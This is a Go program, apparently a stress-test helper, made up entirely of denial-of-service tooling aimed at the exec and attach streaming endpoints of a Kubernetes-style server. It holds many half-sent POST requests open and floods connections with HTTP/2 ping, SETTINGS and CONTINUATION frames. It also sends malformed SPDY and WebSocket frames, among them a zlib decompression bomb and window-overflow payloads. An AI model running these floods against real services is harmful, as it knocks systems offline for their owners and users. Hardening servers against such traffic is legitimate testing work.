package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"
)

// flood ADDRESS COUNT BYTES[,BYTES...] FILE: so many unfinished POSTs, held open until there is no FILE; it makes FILE when they stand
func flood(arguments []string) error {
	count, err := strconv.Atoi(arguments[1])
	if err != nil {
		return err
	}
	var open []net.Conn
	refused := 0
	for _, size := range strings.Split(arguments[2], ",") {
		bytes, err := strconv.Atoi(size)
		if err != nil {
			return err
		}
		request := []byte("POST /exec/nothing HTTP/1.1\r\nHost: x\r\nContent-Length: 65000\r\n\r\n" + strings.Repeat("x", bytes))
		for i := 0; i < count/len(strings.Split(arguments[2], ",")); i++ {
			connection, err := net.DialTimeout("tcp", arguments[0], time.Second)
			if err != nil {
				refused++
				if refused > 20 {
					break
				}
				continue
			}
			connection.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
			connection.Write(request)
			open = append(open, connection)
		}
	}
	if err := os.WriteFile(arguments[3], []byte(fmt.Sprintln(len(open), "open", refused, "refused")), 0o644); err != nil {
		return err
	}
	for {
		if _, err := os.Stat(arguments[3]); err != nil {
			return nil
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// raw unix:PATH|ADDRESS TEXT [SECONDS]: sends the text, a Go string, and prints what comes back
func raw(arguments []string) error {
	network, address := "tcp", arguments[0]
	if path, found := strings.CutPrefix(address, "unix:"); found {
		network, address = "unix", path
	}
	connection, err := net.DialTimeout(network, address, 5*time.Second)
	if err != nil {
		return err
	}
	defer connection.Close()
	text, err := strconv.Unquote(`"` + arguments[1] + `"`)
	if err != nil {
		return err
	}
	patience := 2.0
	if len(arguments) > 2 {
		patience, _ = strconv.ParseFloat(arguments[2], 64)
	}
	connection.SetDeadline(time.Now().Add(time.Duration(patience * float64(time.Second))))
	if _, err := connection.Write([]byte(text)); err != nil {
		return err
	}
	io.Copy(os.Stdout, io.LimitReader(connection, 4096))
	return nil
}

// silent unix:PATH|ADDRESS COUNT PATTERN FILE: connections that say something odd again and again until there is no FILE
// PATTERN: idle, garbage, ping, settings, headers
func silent(arguments []string) error {
	network, address := "tcp", arguments[0]
	if path, found := strings.CutPrefix(address, "unix:"); found {
		network, address = "unix", path
	}
	count, _ := strconv.Atoi(arguments[1])
	preface := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	frame := func(kind, flags byte, stream uint32, body []byte) []byte {
		header := []byte{byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body)), kind, flags, 0, 0, 0, 0}
		binary.BigEndian.PutUint32(header[5:], stream)
		return append(header, body...)
	}
	settings := frame(4, 0, 0, nil)
	first := map[string][]byte{"idle": {}, "garbage": bytes.Repeat([]byte("garbage\x00\xff"), 1000), "ping": append(preface, settings...),
		"settings": append(preface, settings...), "headers": append(append(preface, settings...), frame(1, 0, 1, []byte{0x82})...)}[arguments[2]]
	again := map[string][]byte{"garbage": bytes.Repeat([]byte("garbage\x00\xff"), 1000), "ping": bytes.Repeat(frame(6, 0, 0, make([]byte, 8)), 200),
		"settings": bytes.Repeat(frame(4, 0, 0, []byte{0, 4, 0, 0, 255, 255}), 200), "headers": frame(9, 0, 1, bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, 3000))}[arguments[2]]
	os.WriteFile(arguments[3], []byte("attacking\n"), 0o644)
	for i := 0; i < count; i++ {
		go func() {
			for {
				connection, err := net.Dial(network, address)
				if err != nil {
					time.Sleep(50 * time.Millisecond)
					continue
				}
				go io.Copy(io.Discard, connection)
				connection.Write(first)
				for err == nil {
					connection.SetWriteDeadline(time.Now().Add(time.Second))
					_, err = connection.Write(again)
					if again == nil {
						time.Sleep(time.Minute)
					} else {
						time.Sleep(5 * time.Millisecond)
					}
				}
				connection.Close()
			}
		}()
	}
	for {
		if _, err := os.Stat(arguments[3]); err != nil {
			return nil
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// frames URL PATTERN: behind a valid URL of exec or attach, frames that a peer would not send. Prints how it ended.
func frames(arguments []string) error {
	target, err := url.Parse(arguments[0])
	if err != nil {
		return err
	}
	connection, err := net.DialTimeout("tcp", target.Host, 5*time.Second)
	if err != nil {
		return err
	}
	defer connection.Close()
	upgrade := "Upgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\n"
	method := "POST"
	websocket := strings.HasPrefix(arguments[1], "websocket")
	if websocket {
		method = "GET"
		upgrade = "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: v4.channel.k8s.io\r\n"
	}
	fmt.Fprintf(connection, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\n%s\r\n", method, target.RequestURI(), target.Host, upgrade)
	reader := bufio.NewReader(connection)
	connection.SetReadDeadline(time.Now().Add(5 * time.Second))
	status, err := reader.ReadString('\n')
	if err != nil || !strings.Contains(status, " 101 ") {
		return fmt.Errorf("not upgraded: %q %v", status, err)
	}
	fmt.Println("upgraded")
	bomb, ok := bombs[arguments[1]]
	if !ok {
		return fmt.Errorf("no pattern %s", arguments[1])
	}
	go io.Copy(io.Discard, reader)
	connection.SetReadDeadline(time.Time{})
	sent := 0
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
		connection.SetWriteDeadline(time.Now().Add(time.Second))
		written, err := connection.Write(bomb)
		sent += written
		if err != nil {
			fmt.Println("ended after", sent, "bytes:", err)
			return nil
		}
	}
	fmt.Println("sent", sent, "bytes")
	return nil
}

func spdyControl(kind uint16, flags byte, body []byte) []byte {
	frame := []byte{0x80, 3, byte(kind >> 8), byte(kind), flags, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}
	return append(frame, body...)
}

// A compressed name/value block that unfolds to a hundred thousand times its size, as far as zlib lets it
func spdyBomb() []byte {
	var all []byte
	for stream := uint32(1); stream < 400; stream += 2 {
		body := make([]byte, 10)
		binary.BigEndian.PutUint32(body, stream)
		all = append(all, spdyControl(1, 0, append(body, deflated(1<<20)...))...)
	}
	return all
}

var bombs = map[string][]byte{
	"websocket-huge":      append([]byte{0x82, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 1, 2, 3, 4}, make([]byte, 1<<16)...),
	"websocket-unmasked":  bytes.Repeat([]byte{0x82, 0x01, 0x00}, 10000),
	"websocket-pings":     bytes.Repeat([]byte{0x89, 0x80, 1, 2, 3, 4}, 10000),
	"websocket-fragments": append([]byte{0x02, 0x80, 1, 2, 3, 4}, bytes.Repeat([]byte{0x00, 0xfe, 0xff, 0xff, 1, 2, 3, 4}, 1)...),
	"websocket-resize":    bytes.Repeat([]byte{0x82, 0x82, 0, 0, 0, 0, 4, '{'}, 10000),
	"spdy-streams":        spdyStreams(),
	"spdy-deflate":        spdyBomb(),
	"spdy-pings":          bytes.Repeat(spdyControl(6, 0, []byte{0, 0, 0, 1}), 10000),
	"spdy-settings":       bytes.Repeat(spdyControl(4, 0, []byte{0, 0, 0, 1, 0, 0, 0, 4, 0, 0, 255, 255}), 10000),
	"spdy-data":           append([]byte{0, 0, 0, 99, 0, 0xff, 0xff, 0xff}, make([]byte, 1<<16)...),
	"spdy-window":         bytes.Repeat(spdyControl(9, 0, []byte{0, 0, 0, 1, 0x7f, 0xff, 0xff, 0xff}), 10000),
}
